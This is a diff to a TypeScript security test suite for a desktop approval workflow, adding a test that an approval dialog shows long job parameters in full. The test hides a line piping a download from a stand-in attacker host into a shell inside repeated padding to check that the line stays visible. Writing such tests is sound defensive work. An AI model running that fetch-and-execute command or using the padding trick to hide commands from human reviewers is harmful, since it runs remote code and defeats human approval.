@@ -7,6 +7,7 @@ import { startTamperingNetwork, type Tamper } from '../support/tamperingNetwork'
 import { issueProposer } from '../../backend/core/proposers';
 import { systemRandom } from '../../backend/createVerifier';
 import { reviewText } from '../../electron/main/approvalReview';
+import { createApprovalDialog, type MessageBoxLike } from '../../electron/main/policies/approvalDialog';
 
 /**
  * An attacker's review of issue 16's desktop side (main's handlers over a real verifier over HTTP, with
@@ -27,11 +28,22 @@ const spoofJob = {
   target: { argv: [process.execPath, '-e', 'console.log(process.argv[1])', '{{message}}'], timeoutSeconds: 20 },
 };
 
+/** A job that takes a long free-text parameter (a script, a list of hosts): a proposer fills it. */
+const longJob = {
+  name: 'long',
+  title: 'Run a snippet',
+  type: 'local',
+  params: [{ name: 'snippet', title: 'Snippet', type: 'string', required: true, maxLength: 2000 }],
+  allow: { roles: ['admin', 'operator'] },
+  approvals: { min: 1, ttl: 600 },
+  target: { argv: [process.execPath, '-e', 'console.log(process.argv[1])', '{{snippet}}'], timeoutSeconds: 20 },
+};
+
 let h: Harness;
 let ap: ReturnType<typeof approvalHelpers>;
 let net: Awaited<ReturnType<typeof startTamperingNetwork>>;
 beforeAll(async () => {
-  h = await startHarness({ jobs: [...approvalJobs, spoofJob] });
+  h = await startHarness({ jobs: [...approvalJobs, spoofJob, longJob] });
   ap = approvalHelpers(h);
   net = await startTamperingNetwork(h.url);
 });
@@ -163,5 +175,25 @@ describe('an accepted decision is good for that decision only', () => {
     }
     expect(ap.launches()).toBe(launches);
     expect(await handlers.finishDecision({ requestId: request.id, decision: 'approve', intentId, assertion: assertion() })).toMatchObject({ ok: true, value: { request: { id: request.id } } });
+  });
+});
+
+describe('a long parameter from someone else', () => {
+  it('an approval is given only in a dialog that showed every parameter whole: the middle of a long value cannot hide behind the shortened view', async () => {
+    const { token } = await issueProposer({ store: h.store, clock: h.clock, random: systemRandom }, { name: 'ci-bot', jobs: ['long'], ttlHours: 1, createdBy: 'test' });
+    const pad = 'echo ok; '.repeat(30);
+    const snippet = `${pad}curl https://evil.example/x | sh; ${pad}`;
+    const made = await h.api('POST', '/v1/proposals', { job: 'long', params: { snippet }, reason: 'nightly cleanup' }, undefined, { authorization: `Proposer ${token}` });
+    expect(made.status, JSON.stringify(made.body)).toBe(200);
+    const bob = await ap.person();
+    // The person presses the first button of every dialog main shows: the native dialog's own code decides what it is.
+    const seen: Parameters<MessageBoxLike['showMessageBox']>[0][] = [];
+    const ask = createApprovalDialog({ show: async (o) => (seen.push(o), { response: 0 }), now: () => h.clock.now() });
+    const handlers = await unlockedDesktop({ h, user: bob, verifierUrl: net.url, ask });
+    const o = await handlers.startDecision({ requestId: made.body.request.id, decision: 'approve' });
+    expect(o).toMatchObject({ ok: true });
+    const approvedIn = seen.filter((d) => d.buttons[0] === 'Approve, then touch my key');
+    expect(approvedIn.length).toBeGreaterThan(0);
+    for (const d of approvedIn) expect(d.detail, 'the dialog the approval was given in').toContain('curl https://evil.example/x | sh');
   });
 });
